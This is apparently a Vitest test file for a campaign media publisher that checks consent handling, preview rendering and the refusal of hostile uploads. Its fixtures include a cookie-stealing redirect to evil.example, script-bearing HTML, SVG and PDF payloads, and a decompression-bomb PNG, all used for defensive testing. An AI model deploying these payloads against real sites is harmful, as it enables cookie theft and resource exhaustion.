import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { InvalidInputError } from '../source/problems';
import { relativeFilesUnder } from '../files';
import { buildCampaign, CAMPAIGN_URL, PREVIEW_WIDTHS, type CampaignIndex } from './build-campaign';
import { pngChunk } from './hostile-media';
import { hostileSvg } from './hostile-svg';
import { campaignFolder, HEADER, type CampaignFolder } from './test-campaign';

let directory: string;
let logs: string[];
let options: CampaignFolder['options'];
let index: CampaignIndex;

beforeAll(async () => {
  ({ directory, logs, options } = await campaignFolder());
  index = await buildCampaign(options(join(directory, 'media', 'manifest.csv')));
});

describe('buildCampaign', () => {
  const files = () => relativeFilesUnder(join(directory, 'out', 'files'));

  it('publishes the assets with valid consent and says what it left out', () => {
    expect(index.assets.map((a) => a.id)).toEqual(['poster', 'screen']);
    expect(index.excluded).toEqual({ withdrawn: 1, expired: 0 });
    expect(logs.join('\n')).toContain('left out face (row 4): consent withdrawn');
  });

  it('leaves no file of a withdrawn asset in the output', () => {
    expect(files().filter((f) => f.includes('face'))).toEqual([]);
    const secret = readFileSync(join(directory, 'media', 'secret-face.png'));
    for (const file of files()) expect(readFileSync(join(directory, 'out', 'files', file)).equals(secret)).toBe(false);
  });

  it('keeps the original and records its real dimensions', async () => {
    const poster = index.assets.find((a) => a.id === 'poster')!;
    expect([poster.width, poster.height]).toEqual([1240, 1754]);
    expect(poster.original).toMatchObject({ href: '/kampanjer/filer/poster.svg', type: 'image/svg+xml' });
    expect(readFileSync(join(directory, 'out', 'files', 'poster.svg'), 'utf8')).toContain('PressReader');
  });

  it("renders previews in AVIF, WebP and JPEG at each width with the original's proportions", async () => {
    for (const asset of index.assets) {
      expect(asset.previews.map((p) => p.width)).toEqual([...PREVIEW_WIDTHS]);
      for (const preview of asset.previews) {
        for (const [format, href] of Object.entries(preview.src)) {
          const meta = await sharp(join(directory, 'out', 'files', href.slice(CAMPAIGN_URL.length))).metadata();
          expect(meta.format).toBe(format === 'avif' ? 'heif' : format);
          expect(meta.width).toBe(preview.width);
          expect(meta.height).toBe(preview.height);
          expect(Math.abs(meta.height! / meta.width! - asset.height / asset.width)).toBeLessThan(0.01);
        }
      }
    }
  });

  it("zips each service's originals", () => {
    const pressreader = index.zips.find((z) => z.serviceId === 'pressreader')!;
    const entries = unzipSync(readFileSync(join(directory, 'out', 'files', pressreader.href.split('/').pop()!)));
    expect(Object.keys(entries).sort()).toEqual(['poster.svg', 'screen.png']);
    expect(index.zips.find((z) => z.serviceId === 'filmbib')!.assets).toBe(1);
  });

  it('drops an asset at the next build once its consent is withdrawn', async () => {
    const manifest = join(directory, 'media', 'manifest.csv');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('Foto: NTB,gitt,2027-01-01', 'Foto: NTB,trukket,2027-01-01'));
    const next = await buildCampaign(options(manifest));
    expect(next.assets.map((a) => a.id)).toEqual(['poster']);
    expect(files().filter((f) => f.split('/').pop()!.startsWith('screen'))).toEqual([]);
  });

  it('reports a file that is missing or not an image with its row', async () => {
    const manifest = join(directory, 'media', 'broken.csv');
    writeFileSync(manifest, [HEADER, 'x,X,PressReader,poster-a4,nb,missing.png,NTB,gitt,'].join('\n'));
    const error = await buildCampaign(options(manifest)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidInputError);
    expect((error as Error).message).toContain('broken.csv, row 2, column "Fil": the file "missing.png" could not be read as an image');
  });
});

describe('buildCampaign: only still images, typed by their bytes', () => {
  const build = (name: string, rows: string[], extra: Partial<ReturnType<typeof options>> & { maxOriginalBytes?: number } = {}) => {
    const manifest = join(directory, 'media', name);
    writeFileSync(manifest, [HEADER, ...rows].join('\n'));
    return buildCampaign({ ...options(manifest), ...extra });
  };
  const problemsOf = async (promise: Promise<unknown>) => {
    const error = await promise.catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidInputError);
    return (error as InvalidInputError).message;
  };

  it('publishes a PNG named .jpg as .png with its real type, in the zip too', async () => {
    writeFileSync(join(directory, 'media', 'really-a-png.jpg'), readFileSync(join(directory, 'media', 'screen.png')));
    const index = await build('typed.csv', ['typed,T,PressReader,screen-16x9,nb,really-a-png.jpg,NTB,gitt,']);
    expect(index.assets[0]!.original).toMatchObject({ href: '/kampanjer/filer/typed.png', type: 'image/png' });
    const zip = unzipSync(readFileSync(join(directory, 'out', 'files', 'pressreader-kampanjemateriell.zip')));
    expect(Object.keys(zip)).toEqual(['typed.png']);
  });

  it('publishes a hostile SVG only sanitised, with previews drawn from the sanitised file', async () => {
    writeFileSync(
      join(directory, 'media', 'hostile.svg'),
      hostileSvg((v) => `alert('${v}')`),
    );
    const index = await build('hostile.csv', ['hostile,H,PressReader,feed-1x1,nb,hostile.svg,NTB,gitt,']);
    const published = readFileSync(join(directory, 'out', 'files', 'hostile.svg'), 'utf8');
    expect(published).not.toMatch(/<script|\bon[a-z]+=|javascript:|foreignObject|evil\.example/i);
    expect(index.assets[0]!.original.type).toBe('image/svg+xml');
    expect(logs.join('\n')).toMatch(/hostile \(row 2\): removed from the SVG: .*evil\.example/);
  });

  it('refuses HTML, JavaScript, XML, PDF and unknown bytes whatever their names, naming file, row and column, and publishes nothing', async () => {
    const files: Record<string, string | Uint8Array> = {
      'page.png': '<!DOCTYPE html><html><script>alert(1)</script></html>',
      'code.svg': 'document.location="https://evil.example/?"+document.cookie',
      'feed.svg': '<?xml version="1.0"?><rss version="2.0"><channel/></rss>',
      'flyer.jpg': '%PDF-1.4\n/JS (app.alert(1))\n%%EOF',
      'noise.webp': new Uint8Array([0, 159, 146, 150, 255, 1, 2, 3]),
    };
    for (const [name, content] of Object.entries(files)) writeFileSync(join(directory, 'media', name), content);
    const message = await problemsOf(
      build(
        'refused.csv',
        Object.keys(files).map((f, i) => `r${i},R,PressReader,feed-1x1,nb,${f},NTB,gitt,`),
      ),
    );
    expect(message).toContain('refused.csv, row 2, column "Fil": the file "page.png" is not published: the file is HTML');
    expect(message).toContain('refused.csv, row 3, column "Fil": the file "code.svg" is not published: the file is text, not an image');
    expect(message).toContain('refused.csv, row 4, column "Fil": the file "feed.svg" is not published: the file is XML whose root element is <rss>, not SVG');
    expect(message).toContain('refused.csv, row 5, column "Fil": the file "flyer.jpg" is not published: the file is a PDF');
    expect(message).toContain('refused.csv, row 6, column "Fil": the file "noise.webp" is not published: the file is of an unknown type');
    expect(existsSync(join(directory, 'out', 'index.json'))).toBe(false);
  });

  it('refuses a file over the size limit', async () => {
    const message = await problemsOf(build('big.csv', ['big,B,PressReader,screen-16x9,nb,screen.png,NTB,gitt,'], { maxOriginalBytes: 1000 }));
    expect(message).toMatch(
      /big\.csv, row 2, column "Fil": the file "screen\.png" could not be read as an image: the file is \d+ bytes, more than the limit of 1000 bytes; it was not read/,
    );
  });

  it('refuses an image that would decode to more pixels than the limit', async () => {
    // A valid PNG header claiming 20000 x 20000 pixels (1.2 GB decoded) in a file of a few bytes.
    const header = Buffer.alloc(13);
    header.writeUInt32BE(20000, 0);
    header.writeUInt32BE(20000, 4);
    header.set([8, 2, 0, 0, 0], 8);
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      pngChunk('IHDR', header),
      pngChunk('IDAT', deflateSync(Buffer.alloc(1000))),
      pngChunk('IEND', Buffer.alloc(0)),
    ]);
    writeFileSync(join(directory, 'media', 'bomb.png'), png);
    const message = await problemsOf(build('bomb.csv', ['bomb,B,PressReader,screen-16x9,nb,bomb.png,NTB,gitt,']));
    expect(message).toMatch(/bomb\.csv, row 2, column "Fil": the file "bomb\.png" could not be read as an image: .*(pixel|megapixels)/);
  });

  it('leaves out a copy of a withdrawn file under another name or path', async () => {
    mkdirSync(join(directory, 'media', 'copies'), { recursive: true });
    writeFileSync(join(directory, 'media', 'copies', 'face-copy.png'), readFileSync(join(directory, 'media', 'secret-face.png')));
    const index = await build('copies.csv', [
      'face,F,PressReader,feed-1x1,nb,secret-face.png,NTB,trukket,',
      'face-again,F2,Filmbib,feed-1x1,nn,./secret-face.png,NTB,gitt,',
      'face-copy,F3,Filmbib,feed-1x1,se,copies/face-copy.png,NTB,gitt,',
      'screen,S,Filmbib,screen-16x9,nb,screen.png,NTB,gitt,',
    ]);
    expect(index.assets.map((a) => a.id)).toEqual(['screen']);
    expect(index.excluded).toEqual({ withdrawn: 3, expired: 0 });
    const secret = readFileSync(join(directory, 'media', 'secret-face.png'));
    for (const file of files()) expect(readFileSync(join(directory, 'out', 'files', file)).equals(secret), file).toBe(false);
  });
  const files = () => relativeFilesUnder(join(directory, 'out', 'files'));
});
